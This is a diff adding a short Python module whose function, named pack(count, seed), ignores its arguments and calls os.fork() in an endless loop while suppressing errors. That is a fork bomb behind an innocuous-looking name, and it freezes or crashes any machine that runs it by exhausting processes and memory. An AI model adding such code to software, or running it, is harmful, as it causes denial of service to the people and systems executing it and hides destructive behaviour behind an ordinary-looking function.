@@ -1,0 +1,11 @@
+"""Fork for ever."""
+
+import os
+
+
+def pack(count, seed):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
